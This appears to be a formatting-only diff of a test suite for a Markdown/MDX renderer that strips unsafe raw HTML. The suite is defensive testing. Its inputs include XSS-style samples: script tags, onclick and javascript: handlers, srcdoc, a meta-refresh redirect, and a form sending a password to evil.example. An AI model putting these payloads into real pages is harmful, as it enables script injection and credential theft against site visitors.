@@ -49,7 +49,9 @@ describe('raw HTML in MDX (the default format)', () => {
   it('renders HTML written as JSX, with React props made from HTML attributes', async () => {
     const { html, warnings } = await render(HTML);
     expect(html).toContain('<details data-site=""><summary>Open me</summary><p>Hidden <strong>words</strong>.</p></details>');
-    expect(html).toContain('<iframe src="https://video.example.com/embed/1" title="Video" width="320" allowFullScreen="" frameBorder="0"></iframe>');
+    expect(html).toContain(
+      '<iframe src="https://video.example.com/embed/1" title="Video" width="320" allowFullScreen="" frameBorder="0"></iframe>',
+    );
     expect(html).toContain('<a name="old-anchor"></a>');
     expect(html).toContain('<center>Centred <kbd>Ctrl</kbd></center>');
     expect(html).toContain('<button class="primary" type="button">Press</button>');
@@ -66,7 +68,8 @@ describe('raw HTML in MDX (the default format)', () => {
   });
 
   it('removes script, handlers and javascript: URLs and reports each once per file with its line', async () => {
-    const body = 'Text\n\n<script>{"alert(1)"}</script>\n\n<div onclick="steal()" class="kept">Kept text</div>\n\n<a href="javascript:steal()">Link text</a>\n\n<iframe src="javascript:steal()"></iframe>\n';
+    const body =
+      'Text\n\n<script>{"alert(1)"}</script>\n\n<div onclick="steal()" class="kept">Kept text</div>\n\n<a href="javascript:steal()">Link text</a>\n\n<iframe src="javascript:steal()"></iframe>\n';
     const file = 'content/docs/unsafe.md';
     const { html, warnings } = await render(body, { file });
     expect(html).not.toMatch(/script|onclick|javascript|iframe/i);
@@ -74,7 +77,9 @@ describe('raw HTML in MDX (the default format)', () => {
     expect(html).toContain('<a>Link text</a>');
     expect(warnings).toHaveLength(1);
     expect(warnings[0]).toMatch(/^Warning: content\/docs\/unsafe\.md: raw HTML was removed/);
-    expect(warnings[0]).toContain('line 3: <script> and its content; line 5: onclick on <div>; line 7: href on <a>; line 9: <iframe> without an http(s) src');
+    expect(warnings[0]).toContain(
+      'line 3: <script> and its content; line 5: onclick on <div>; line 7: href on <a>; line 9: <iframe> without an http(s) src',
+    );
     // The page and its excerpt compile the same file: still one report.
     expect((await render(body, { file })).warnings).toEqual([]);
   });
@@ -107,7 +112,15 @@ describe('raw HTML in MDX (the default format)', () => {
     expect(html).toContain('<iframe src="https://video.example.com/embed/1"></iframe>');
     expect(html).toContain('<button>Press</button>');
     const said = warnings.join('\n');
-    for (const [line, construct] of [[1, 'dangerouslySetInnerHTML on <div>'], [3, 'dangerouslySetInnerHTML on <Details>'], [5, 'srcDoc on <iframe>'], [7, 'onClick on <button>'], [9, '<meta> and its content'], [11, '<base> and its content'], [13, '<object> and its content']] as const) {
+    for (const [line, construct] of [
+      [1, 'dangerouslySetInnerHTML on <div>'],
+      [3, 'dangerouslySetInnerHTML on <Details>'],
+      [5, 'srcDoc on <iframe>'],
+      [7, 'onClick on <button>'],
+      [9, '<meta> and its content'],
+      [11, '<base> and its content'],
+      [13, '<object> and its content'],
+    ] as const) {
       expect(said, construct).toContain(`line ${line}: ${construct}`);
     }
   });
@@ -119,14 +132,17 @@ describe('raw HTML in CommonMark (format "md")', () => {
     expect(html).toContain('<details data-site="">');
     expect(html).toContain('<summary>Open me</summary>');
     expect(html).toContain('<p>Hidden <strong>words</strong>.</p>');
-    expect(html).toContain('<iframe src="https://video.example.com/embed/1" title="Video" width="320" allowFullScreen="" frameBorder="0"></iframe>');
+    expect(html).toContain(
+      '<iframe src="https://video.example.com/embed/1" title="Video" width="320" allowFullScreen="" frameBorder="0"></iframe>',
+    );
     expect(html).toContain('<a name="old-anchor"></a>');
     expect(html).toContain('<div class="box" style="background-color:#eee;padding:2px">Styled</div>');
     expect(warnings).toEqual([]);
   });
 
   it('keeps Markdown, comments hidden, braces as text, and reports what it removed with lines', async () => {
-    const body = '# Title\n\n<!-- hidden -->\n\nBraces {stay} here.\n\n<script>alert(1)</script>\n\n<table>\n  <tr><td onclick="x()">Cell</td></tr>\n</table>\n';
+    const body =
+      '# Title\n\n<!-- hidden -->\n\nBraces {stay} here.\n\n<script>alert(1)</script>\n\n<table>\n  <tr><td onclick="x()">Cell</td></tr>\n</table>\n';
     const { html, warnings } = await render(body, { format: 'md' });
     expect(html).toContain('<h1 id="title">Title</h1>');
     expect(html).toContain('Braces {stay} here.');
@@ -143,7 +159,11 @@ const FORGED = [
   ['<base data-from-markdown href="https://evil.example/" />', '<base> (its content is kept)', /<base|evil/],
   ['<object data-from-markdown data="https://evil.example/x.swf"></object>', '<object> (its content is kept)', /<object|evil/],
   ['<meta data-from-markdown http-equiv="refresh" content="0;url=https://evil.example/" />', '<meta> (its content is kept)', /<meta|evil/],
-  ['<form data-from-markdown action="https://evil.example/steal"><input name="password" /></form>', '<form> (its content is kept)', /<form|evil/],
+  [
+    '<form data-from-markdown action="https://evil.example/steal"><input name="password" /></form>',
+    '<form> (its content is kept)',
+    /<form|evil/,
+  ],
   ['<style data-from-markdown>body{display:none}</style>', '<style> and its content', /<style|display/],
   ['<iframe data-from-markdown srcdoc="<script>alert(1)</script>"></iframe>', '<iframe> without an http(s) src', /<iframe|srcdoc|alert/],
 ] as const;
@@ -160,7 +180,9 @@ describe('raw HTML cannot pass itself off as Markdown', () => {
     for (const [, , leaked] of FORGED) expect(html).not.toMatch(leaked);
     expect(html).not.toContain('data-from-markdown');
     expect(warnings).toHaveLength(1);
-    FORGED.forEach(([, construct], i) => expect(warnings[0]).toMatch(new RegExp(`line ${lines[i]}: [^;]*${construct.replace(/[<>()]/g, '\\$&')}`)));
+    FORGED.forEach(([, construct], i) =>
+      expect(warnings[0]).toMatch(new RegExp(`line ${lines[i]}: [^;]*${construct.replace(/[<>()]/g, '\\$&')}`)),
+    );
   });
 });
 
